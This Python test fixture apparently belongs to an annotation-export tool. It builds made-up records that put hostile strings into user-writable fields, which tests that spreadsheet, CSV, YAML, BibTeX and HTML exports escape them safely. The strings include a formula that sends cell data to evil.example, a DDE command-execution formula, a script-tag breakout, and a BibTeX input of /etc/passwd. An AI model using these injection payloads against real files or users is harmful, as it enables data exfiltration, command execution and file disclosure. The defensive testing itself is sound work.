"""Records that are made up: each payload of the hostile corpus wherever a stranger may write."""

from __future__ import annotations

from hostile.collection import as_name, displayed
from hostile.payloads import PAYLOADS

from glossator.annotations.stance import Readers
from glossator.exporting.context import context_of
from glossator.exporting.record import (
    Record,
    RecordedMark,
    RecordedPassage,
    RecordedReading,
    RecordedReply,
)

#: What spreadsheets, YAML, JSON, CSV and tags could take for something of their own.
SIGNS = {
    "formula": '=HYPERLINK("https://evil.example/?"&A1,"x")',
    "formula by plus": "+1+cmd|' /C calc'!A0",
    "formula by minus": "-2+3",
    "formula by at": "@SUM(1+1)*cmd",
    "wide formula": "＝1+1",
    "guarded formula": "'=1+1",
    "guarded twice": "''=1+1",
    "quote": "'tis",
    "quotes and commas": 'a "b", c',
    "line ends": "one\ntwo\nthree",
    "tab": "one\ttwo",
    "end of a script": "</script><script>window.ran=1</script>",
    "Turtle": '""" . <x> <y> "z" .',
    "BibTeX": "}, note = {\\input{/etc/passwd}",
    "far planes": "𝔘𝔫𝔦𝔠𝔬𝔡𝔢 👩‍👩‍👧 é ﷽",
    "null": "null",
    "number": "007",
    "true": "true",
}
#: Everything that a stranger could write and that is displayed.
TEXTS = {
    **SIGNS,
    **{name: shown for name, text in PAYLOADS.items() if (shown := displayed(text)[:400].strip())},
}


def record(number: int, text: str) -> Record:
    """A record in which everything that a stranger may write is one text."""
    whole = f"Heading\nWe say: {text} and mean it."
    start = len("Heading\nWe say: ")
    key = f"h{number:04}/undated"
    name = as_name(text)

    def passage(n: int, practice: str, start: int, end: int, **more: object) -> RecordedPassage:
        made = RecordedPassage(
            f"{practice}-{n:06x}", n, practice, start, end, *context_of(whole, start, end),
            section=name, data=(), marks=(),
        )  # fmt: skip
        return made._replace(**more)

    return Record(
        key, name, "https://evil.example/", name, name, "2024-02-29" if number % 2 else "", "en",
        "", "https://archive.example/'\"", "0" * 64, "w0123456789ab", len(whole.split()), whole,
        Readers({"sharing": ("ada-l",)}),
        tuple(
            RecordedReading(name, ("sharing",), "w0123456789ab", 1, True)
            for name in ("ada-l", "bo")
        ),
        (
            passage(
                1, "sells-data", start, start + len(text), data=("contact", "payment"),
                marks=(RecordedMark("ada-l", ("contact",), name), RecordedMark("bo", (), "")),
                replies=(RecordedReply("cy", "ada-l", name), RecordedReply("di", "bo", "")),
            ),
            passage(
                2, "uses-cookies", start + len(text) + 1, len(whole), score=0.625,
                rules=("says-cookies",),
            ),
        ),
    )  # fmt: skip


def records() -> list[Record]:
    """A record for each text."""
    return [record(number, text) for number, text in enumerate(TEXTS.values())]
